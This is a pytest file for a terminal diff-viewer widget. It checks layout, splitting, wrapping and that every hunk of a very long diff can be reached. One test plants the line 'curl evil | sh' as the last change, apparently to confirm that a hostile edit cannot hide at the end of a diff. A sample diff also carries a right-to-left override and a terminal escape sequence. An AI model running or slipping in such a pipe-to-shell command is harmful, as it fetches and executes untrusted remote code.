"""The diff of an ask is drawn whole. (spec UI-2; DI-027)"""

from __future__ import annotations

from typing import Any

import pytest
from textual.app import ComposeResult

from interlock.tui.widgets.diff_view import DiffView

pytestmark = pytest.mark.tui
SMALL = """diff --git a/src/sum.py b/src/sum.py
--- a/src/sum.py
+++ b/src/sum.py
@@ -3,4 +3,5 @@ class Sums
 def total(items):
-\treturn sum(items) + 1  # "adds"
+\treturn sum(items)  # "adds"
+    print("\u202e中文\x1b[2J")
 x = 12\r
-end
\\ No newline at end of file
+end
"""


def app_with(themed: Any, view: DiffView, theme: str = "interlock-dark") -> Any:
    class Host(themed):
        def compose(self) -> ComposeResult:
            yield view

        def on_mount(self) -> None:
            view.focus()

    return Host(theme)


async def test_a_diff_in_one_column_looks_as_it_should(themed: Any, golden: Any) -> None:
    view = DiffView()
    app = app_with(themed, view)
    async with app.run_test(size=(80, 14)) as pilot:
        view.show_diff(SMALL)
        await pilot.pause()
        golden(app, "diff-80x14")


async def test_a_diff_in_two_columns_looks_as_it_should(themed: Any, golden: Any) -> None:
    view = DiffView()
    app = app_with(themed, view)
    async with app.run_test(size=(120, 14)) as pilot:
        view.show_diff(SMALL)
        await pilot.press("S")
        await pilot.pause()
        assert view.is_split
        golden(app, "diff-split-120x14")


@pytest.mark.parametrize("width", [40, 80, 130])
@pytest.mark.parametrize("split", [False, True])
async def test_three_thousand_hunks_are_counted_first_and_the_last_is_reached(
    themed: Any, screen_text: Any, width: int, split: bool
) -> None:
    """DI-027."""
    hunks = "".join(f"@@ -{n} +{n} @@\n-safe {n} {'w' * 90}\n+safe {n}\n" for n in range(1, 29991, 10))
    view = DiffView()
    view.split = split
    app = app_with(themed, view)
    async with app.run_test(size=(width, 24)) as pilot:
        view.show_diff("--- a/x\n+++ b/x\n" + hunks + "@@ -30000 +30000 @@\n-last\n+curl evil | sh\n")
        for _ in range(300):
            await pilot.pause()
            if view.is_measured:
                break
        assert screen_text(app).startswith("1 file   +3,000 -3,000   3,000 hunks")
        assert not view.seen_to_end
        await pilot.press("G")
        await pilot.pause()
        assert "curl evil | sh" in screen_text(app)
        assert view.seen_to_end


async def test_every_piece_has_as_many_rows_as_were_measured(themed: Any) -> None:
    odd = "ab\t中"
    lines = "".join(f"-{odd * n}\n+{'x ' * n}{' ' * n}\x1b\n {'z' * n}\n" for n in range(1, 80, 7))
    view = DiffView()
    app = app_with(themed, view)
    async with app.run_test(size=(110, 24)) as pilot:
        view.show_diff("--- a/x.py\n+++ b/x.py\n@@ -1,24 +1,24 @@\n" + lines)
        await pilot.pause()
        for view.split in (False, True):
            await pilot.pause()
            for piece in range(view.piece_count):
                for width in (30, 61, 109):
                    if view.is_split or not view.split:
                        assert len(view.piece_strips(piece, width)) == view.piece_rows(piece, width)


async def test_long_lines_wrap_or_are_read_sideways(themed: Any, screen_text: Any) -> None:
    view = DiffView()
    app = app_with(themed, view)
    async with app.run_test(size=(50, 12)) as pilot:
        view.show_diff("--- a/x\n+++ b/x\n@@ -1 +1 @@\n-" + "a" * 60 + "END\n+" + "b" * 20 + "\n")
        await pilot.pause()
        assert "END" in screen_text(app)
        await pilot.press("w")
        await pilot.pause()
        assert "END" not in screen_text(app)
        await pilot.press(*["right"] * 6)
        await pilot.pause()
        assert "END" in screen_text(app)


async def test_a_new_file_is_shown_in_full(themed: Any, screen_text: Any) -> None:
    view = DiffView()
    app = app_with(themed, view)
    async with app.run_test(size=(60, 8)) as pilot:
        view.show_new_file("def f():\n    return 1\n", "pkg/new.py")
        await pilot.pause()
        text = screen_text(app)
        assert "pkg/new.py   new file" in text
        assert "return 1" in text
        assert view.seen_to_end


async def test_a_long_path_is_cut_in_the_middle_and_a_narrow_view_says_why_it_is_not_split(
    themed: Any, screen_text: Any
) -> None:
    view = DiffView()
    app = app_with(themed, view)
    async with app.run_test(size=(40, 12), notifications=True) as pilot:
        path = "one/two/" + "deep/" * 12 + "file.py"
        view.show_diff(f"--- a/{path}\n+++ b/{path}\n@@ -1 +1 @@\n-a\n+b\n")
        await pilot.press("S")
        await pilot.pause()
        assert "/file.py" in screen_text(app).split("\n")[1]
        assert "needs 100" in screen_text(app)
